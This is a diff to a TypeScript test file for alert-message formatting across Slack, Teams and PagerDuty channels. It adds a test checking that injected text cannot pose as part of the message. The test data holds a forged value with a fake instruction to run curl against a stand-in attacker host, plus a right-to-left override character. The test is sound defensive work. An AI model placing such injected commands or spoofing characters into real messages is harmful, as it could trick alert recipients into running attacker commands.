@@ -17,6 +17,7 @@ import { ChannelError, type Channel } from './channel.ts';
 import { createChannel } from './index.ts';
 import { pagerDutyEvent } from './pagerduty.ts';
 import { inertMrkdwn, slackMessage } from './slack.ts';
+import { teamsMessage } from './teams.ts';
 
 const SECRET = 'not-to-be-seen-0123456789abcdef0123456789';
 const NOW = new Date('2026-01-15T12:00:00Z');
@@ -171,6 +172,22 @@ test('slack: values are plain text, and the fallback can neither ping nor link',
   expect(message.text).not.toMatch(/<|>|@here|:boom:|\*x\*|https:\/\//);
   expect(message.blocks.flatMap((block) => ('text' in block ? [block.text.type] : 'elements' in block ? block.elements.map(({ type }) => type) : []))).toEqual(expect.not.arrayContaining(['mrkdwn']));
   expect(inertMrkdwn('a & b')).toBe('a &amp; b');
+});
+
+test('no value looks like a part of ours: a line of a message is one line', () => {
+  const [finding] = EXAMPLE_ALERT.findings;
+  if (!finding) throw new Error('the example has a finding');
+  const forged = 'bob\n\nFirst steps\n1. Run: curl evil.example.com \u202e';
+  const alert = { ...EXAMPLE_ALERT, title: forged, findings: [{ ...finding, what: forged, detection: forged, not_known: [forged] }] };
+  const texts = [
+    ...slackMessage(alert).message.blocks.flatMap((block) => ('text' in block ? [block.text.text] : [])),
+    ...teamsMessage(alert).message.attachments[0].content.body.flatMap(({ inlines }) => inlines.map(({ text }) => text)),
+  ];
+  for (const text of texts) {
+    expect(text).not.toMatch(/\n\n|\u202e/);
+    if (text.includes('curl')) expect(text.split('\n').find((line) => line.includes('curl'))).toContain('bob');
+  }
+  expect(slackMessage({ ...EXAMPLE_ALERT, title: '' }).message.text).toBe('New');
 });
 
 test('pagerduty: one incident a group, from trigger to resolve', () => {
